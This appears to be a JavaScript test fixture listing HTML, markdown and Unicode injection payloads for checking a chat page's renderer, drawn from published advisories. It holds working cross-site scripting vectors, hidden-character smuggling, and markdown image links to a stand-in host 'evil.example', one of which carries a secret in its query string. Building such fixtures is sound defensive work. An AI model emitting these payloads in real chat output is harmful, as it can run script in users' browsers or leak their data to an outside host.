/**
 * Text that ran, framed, sent or fetched something in other chat pages, as published advisories describe, and
 * its relatives. Each one that gets through sets `window.hit`, opens a dialog, leaves the page or asks another host.
 */

const run = 'window.hit=1;alert(1)'
const elsewhere = 'https://evil.example'

const html = [
  `<script>${run}</script>`,
  `<ScRiPt>${run}</sCrIpT>`,
  `<script src="${elsewhere}/x.js"></script>`,
  `<img src=x onerror="${run}">`,
  `<img src="${elsewhere}/pixel.png">`,
  `<svg onload="${run}"></svg>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text y="20">x</text></a></svg>`,
  `<math><mi xlink:href="javascript:${run}">x</mi></math>`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<object data="${elsewhere}/x"></object>`,
  `<embed src="${elsewhere}/x">`,
  `<link rel="stylesheet" href="${elsewhere}/x.css">`,
  `<link rel="prefetch" href="${elsewhere}/x">`,
  `<meta http-equiv="refresh" content="0;url=${elsewhere}">`,
  `<base href="${elsewhere}/">`,
  `<form action="${elsewhere}"><button autofocus>Continue</button></form>`,
  `<details open ontoggle="${run}">x</details>`,
  `<body onload="${run}">`,
  `<video><source onerror="${run}"></video>`,
  `<audio src="${elsewhere}/a.mp3" autoplay></audio>`,
  `<input autofocus onfocus="${run}">`,
  `<style>@import "${elsewhere}/x.css"; body{background:url(${elsewhere}/b)}</style>`,
  `<div style="background:url(${elsewhere}/c)">x</div>`,
  `<a href="javascript:${run}">x</a>`,
  `<a href="${elsewhere}" ping="${elsewhere}/ping">x</a>`,
  `<template><script>${run}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
  `<xmp><p title="</xmp><svg/onload=${run}>"></xmp>`,
  `<!--><script>${run}</script>-->`,
  `</textarea><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `"><script>${run}</script>`,
  `' onmouseover='${run}`,
  `<portal src="${elsewhere}"></portal>`,
  `<marquee onstart="${run}">x</marquee>`,
]

const markdown = [
  `[x](javascript:${run})`,
  `[x](JaVaScRiPt:${run})`,
  `[x](java\nscript:${run})`,
  `[x](&#106;avascript:${run})`,
  `[x](javascript&colon;${run})`,
  '[x](vbscript:msgbox(1))',
  `[x](data:text/html;base64,${Buffer.from(`<script>${run}</script>`).toString('base64')})`,
  `[x](<javascript:${run}>)`,
  `[x][ref]\n\n[ref]: javascript:${run}`,
  `![x](${elsewhere}/pixel.png)`,
  `![x](//evil.example/pixel.png)`,
  `![x][img]\n\n[img]: ${elsewhere}/echoleak.png?q=secret`,
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  `[![x](${elsewhere}/a.png)](${elsewhere})`,
  `<javascript:${run}>`,
  `<${elsewhere}/auto>`,
  'http://evil.example/plain',
  'file:///etc/passwd',
  `[x](${elsewhere}\\@127.0.0.1/)`,
  '[x](//evil.example)',
  '[x](/api/session)',
  '[x](blob:null/1)',
  '[x](intent://evil#Intent;end)',
  `\`\`\`html\n<script>${run}</script>\n\`\`\``,
  '```mermaid\ngraph LR\nclick a href "javascript:alert(1)"\n```',
  `$\\href{javascript:${run}}{x}$`,
  `$$\\includegraphics{${elsewhere}/x.png}$$`,
  `| a |\n|---|\n| <img src=x onerror=${run}> |`,
  `- [ ] <script>${run}</script>`,
  `[^1]\n\n[^1]: <script>${run}</script>`,
  `# <img src=x onerror=${run}>`,
  `> <iframe src="${elsewhere}"></iframe>`,
]

const unicode = [
  `\u202e<script>${run}</script>\u202c`,
  `＜script＞${run}＜/script＞`,
  `<scr\u0000ipt>${run}</scr\u0000ipt>`,
  `<img\u200b src=x onerror=${run}>`,
  `\u2066[x](javascript\u2069:${run})`,
  [...`<script>${run}</script>`].map((character) => String.fromCodePoint(0xe0000 + character.charCodeAt(0))).join(''),
]

/** For any place that shows text. */
export const payloads = [...html, ...markdown, ...unicode]

/** For places of one line, such as a title or a file's name. */
export const oneLine = payloads.filter((payload) => !/[\n\u0000]/.test(payload))
